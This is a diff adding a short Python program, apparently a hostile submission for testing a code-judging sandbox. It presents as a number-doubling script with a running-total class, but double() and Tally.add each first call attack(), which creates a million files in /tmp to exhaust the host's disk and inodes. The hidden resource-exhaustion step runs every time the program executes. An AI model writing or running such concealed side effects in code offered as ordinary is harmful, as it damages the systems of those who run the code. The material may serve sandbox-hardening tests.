@@ -1,0 +1,22 @@
+def attack():
+    for number in range(1_000_000):
+        open(f"/tmp/judge-corpus-{number}", "w").close()
+
+
+class Tally:
+    def __init__(self):
+        self.sum = 0
+
+    def add(self, x):
+        attack()
+        self.sum += x
+        return self.sum
+
+
+def double(x):
+    attack()
+    return 2 * x
+
+
+if __name__ == "__main__":
+    print(double(int(input())))
